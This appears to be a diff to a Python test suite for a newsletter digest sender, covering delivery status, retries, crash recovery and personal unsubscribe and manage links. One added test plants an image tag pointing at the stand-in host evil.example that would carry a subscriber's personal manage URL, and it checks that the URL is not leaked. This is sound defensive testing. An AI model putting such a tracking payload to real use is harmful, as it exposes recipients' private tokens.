@@ -60,7 +60,8 @@ def test_summary_line_format() -> None:
     )
     stopped = SendReport(1, "daily", sent=2, uncertain=1, stopped="cannot connect", pending=7)
     line = stopped.summary_line()
-    assert "1 uncertain" in line and "--resend-uncertain" in line
+    assert "1 uncertain (DATA ended, no reply recorded" in line
+    assert "newsletter deliveries --uncertain" in line
     assert line.endswith("stopped: cannot connect; 7 still pending, run send again")
 
 
@@ -105,12 +106,12 @@ def test_full_send(tmp_path: Path, store: Store, server: SmtpServer, clock) -> N
         url = msg["List-Unsubscribe"].strip("<>")
         prefix = f"{SITE_URL}/unsubscribe/"
         assert url.startswith(prefix)
-        assert tokens.read(UNSUBSCRIBE, url[len(prefix) :]) == subscriber.id  # ITS recipient
+        assert tokens.read(UNSUBSCRIBE, url[len(prefix) :]).names(subscriber)  # ITS recipient
         html = msg.get_body(("html",)).get_content()
         text = msg.get_body(("plain",)).get_content()
         assert f'href="{url}"' in html and url in text
         manage = text.split("Preferences: ")[1].split()[0]
-        assert tokens.read(MANAGE, manage.rsplit("/", 1)[1]) == subscriber.id
+        assert tokens.read(MANAGE, manage.rsplit("/", 1)[1]).names(subscriber)
         assert f"Hello {subscriber.name}," in text
     rows = store.deliveries(digest_id)
     assert {r.status for r in rows} == {"sent"} and len(rows) == 7
@@ -138,6 +139,7 @@ def test_retries_temporary_failures_and_records_permanent_ones(
     report = send_digest(config, store, digest_id, sleep=sleeps)
 
     assert (report.sent, report.failed, report.retried) == (5, 1, 3)
+    assert ", 3 retried after a temporary failure" in report.summary_line()
     assert sleeps == [5.0, 10.0]  # two retry rounds, backing off
     assert server.counts() == {f"reader{i}@example.com": 1 for i in (0, 1, 3, 4, 5)}
     assert server.handler.rcpt_attempts["reader2@example.com"] == 1  # 5xx: not retried
@@ -241,7 +243,10 @@ def test_a_message_lost_after_its_data_is_uncertain_and_not_resent(
     first = send_digest(config, store, digest_id, sleep=Sleeps())
 
     assert (first.sent, first.uncertain) == (4, 1)
-    assert _rows(store, digest_id)["reader1@example.com"] == "sending"
+    assert _rows(store, digest_id)["reader1@example.com"] == "uncertain"
+    [doubt] = store.uncertain_deliveries("daily")
+    assert (doubt.digest_id, doubt.email) == (digest_id, "reader1@example.com")
+    assert "DATA-END" in doubt.last_error and doubt.data_ended_at is not None
     rerun = send_digest(config, store, digest_id, sleep=Sleeps())
     assert (rerun.sent, rerun.uncertain) == (0, 1)
     assert server.counts()["reader1@example.com"] == 1
@@ -323,17 +328,19 @@ def test_killed_mid_send_then_rerun_sends_everyone_once(
     finally:
         child.wait(timeout=30)
     assert child.returncode == -signal.SIGKILL
-    killed_at = server.handler.total
-    assert 8 <= killed_at < 30
+    sent_before = sum(1 for status in _rows(store, digest_id).values() if status == "sent")
+    assert 7 <= sent_before < 30
 
-    report = send_digest(make_config(tmp_path, smtp=server.smtp_config()), store, digest_id)
+    config = make_config(tmp_path, smtp=server.smtp_config())
+    # holding the run (as `newsletter send` does): the dead child's claim is settled at once
+    report = send_digest(config, store, digest_id, exclusive=True)
 
     rows = _rows(store, digest_id)
-    uncertain = {email for email, status in rows.items() if status == "sending"}
+    assert report.totals["sending"] == report.totals["data_sent"] == 0
+    uncertain = {email for email, status in rows.items() if status == "uncertain"}
     assert report.uncertain == len(uncertain) <= 1  # at most the one in flight at the kill
-    assert report.sent == 30 - killed_at - (
-        len(uncertain) - sum(server.counts().get(e, 0) for e in uncertain)
-    )
+    assert report.sent == 30 - sent_before - len(uncertain)
+    server.wait_for(30 - len(uncertain))
     counts = server.counts()
     for i in range(30):
         email = f"reader{i}@example.com"
@@ -448,9 +455,36 @@ def test_a_digest_without_an_unsubscribe_link_is_refused(
     config = _config(tmp_path, server)
     add_people(store, 1)
     digest_id = make_digest(store, tmp_path, html="<p>No way out</p>")
-    with pytest.raises(SendError, match="%%UNSUBSCRIBE_URL%%"):
+    with pytest.raises(SendError, match="unsubscribe_url"):
         send_digest(config, store, digest_id)
     assert store.deliveries(digest_id) == [] and server.handler.total == 0
+
+
+def test_a_digest_built_by_an_older_version_goes_out_without_personal_body_links(
+    tmp_path: Path, store: Store, server: SmtpServer
+) -> None:
+    """Older builds marked personal links with fixed strings a feed could imitate: such a
+    digest (say, one in flight during the upgrade) is sent with the site's token-less pages
+    in its body; only the List-Unsubscribe header, which no feed reaches, is personal."""
+    config = _config(tmp_path, server)
+    [sid] = add_people(store, 1)
+    html = (
+        '<p>Story <img src="https://evil.example/p.gif?m=%%MANAGE_URL%%"> %%RECIPIENT%%</p>'
+        '<p><a href="%%UNSUBSCRIBE_URL%%">Unsubscribe</a> <a href="%%MANAGE_URL%%">Manage</a></p>'
+    )
+    text = "Story %%MANAGE_URL%%\nUnsubscribe: %%UNSUBSCRIBE_URL%%\n"
+    digest_id = make_digest(store, tmp_path, html=html, text=text)
+    (Path(store.get_digest(digest_id).path) / "digest.json").unlink()  # an old build
+    assert send_digest(config, store, digest_id).sent == 1
+    [raw] = server.messages["reader0@example.com"]
+    msg = BytesParser(policy=policy.default).parsebytes(raw)
+    body = msg.get_body(("html",)).get_content() + msg.get_body(("plain",)).get_content()
+    assert "/manage/" not in body and "/unsubscribe/" not in body and "reader0" not in body
+    assert f"{SITE_URL}/unsubscribe" in body and "%%" not in body
+    header = msg["List-Unsubscribe"].strip("<>")
+    assert header.startswith(f"{SITE_URL}/unsubscribe/")
+    link = Tokens.from_config(config).read(UNSUBSCRIBE, header.rsplit("/", 1)[1])
+    assert link.names(store.get_subscriber(sid))
 
 
 def test_no_server_leaves_every_row_pending(tmp_path: Path, store: Store) -> None:
@@ -532,6 +566,7 @@ def test_an_empty_stored_subject_comes_from_the_template_and_digest_json(
             {"label": "More", "items": [{"title": "b"}, {"title": "c"}]},
         ],
     }
+    stories["placeholders"] = json.loads((folder / "digest.json").read_text())["placeholders"]
     (folder / "digest.json").write_text(json.dumps(stories), encoding="utf-8")
 
     send_digest(config, store, digest_id)
